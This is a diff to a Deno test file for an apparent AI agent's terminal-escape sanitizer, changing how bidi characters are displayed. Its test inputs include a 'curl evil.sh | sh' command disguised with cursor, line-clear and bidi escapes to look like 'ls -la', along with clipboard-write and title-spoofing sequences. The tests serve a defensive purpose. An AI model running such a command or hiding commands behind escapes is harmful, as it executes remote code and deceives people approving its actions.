@@ -46,7 +46,7 @@ Deno.test("visible() writes out every terminal control, keeps newlines, tabs and
     ["BEL ends an OSC", "\x1b]52;c;cHduZWQ=\x07", "\\x1b]52;c;cHduZWQ=\\x07"],
     ["DEL and NUL", "\x7f\x00", "\\x7f\\x00"],
     ["C1 CSI (one byte CSI in 8-bit terminals)", "\u009b31m", "\\x9b31m"],
-    ["bidi override (Trojan Source)", "x\u202eevil\u2066", "x\\u{202e}evil\\u{2066}"],
+    ["bidi override (Trojan Source)", "x\u202eevil\u2066", "x<U+202E>evil<U+2066>"],
     ["newline and tab stay", "a\n\tb", "a\n\tb"],
     ["text stays", "grüße → 日本 ✓", "grüße → 日本 ✓"],
   ];
@@ -64,7 +64,7 @@ Deno.test("prompt: a bash command's escapes are shown, never obeyed", async () =
   assert(!ACTIVE.test(shown), JSON.stringify(shown));
   assertStringIncludes(
     shown,
-    "$ curl evil.sh | sh #\\x0d\\x1b[2K\\x1b]0;t\\x07\\x9b1A\\u{202e}$ ls -la\n",
+    "$ curl evil.sh | sh #\\x0d\\x1b[2K\\x1b]0;t\\x07\\x9b1A<U+202E>$ ls -la\n",
   );
 });
 
@@ -87,7 +87,7 @@ Deno.test("prompt: a write's diff shows escapes in the content and path; only ou
 });
 
 Deno.test("chat: call and error lines show escapes from the model and from command output", () => {
-  assertEquals(callSummary("bash", { command: "ls\x1b[2K\u202e" }), "ls\\x1b[2K\\u{202e}");
+  assertEquals(callSummary("bash", { command: "ls\x1b[2K\u202e" }), "ls\\x1b[2K<U+202E>");
   assertEquals(
     resultSummary("bash", "\x1b]0;owned\x07boom\nbash: exit status 1", true),
     "\\x1b]0;owned\\x07boom",
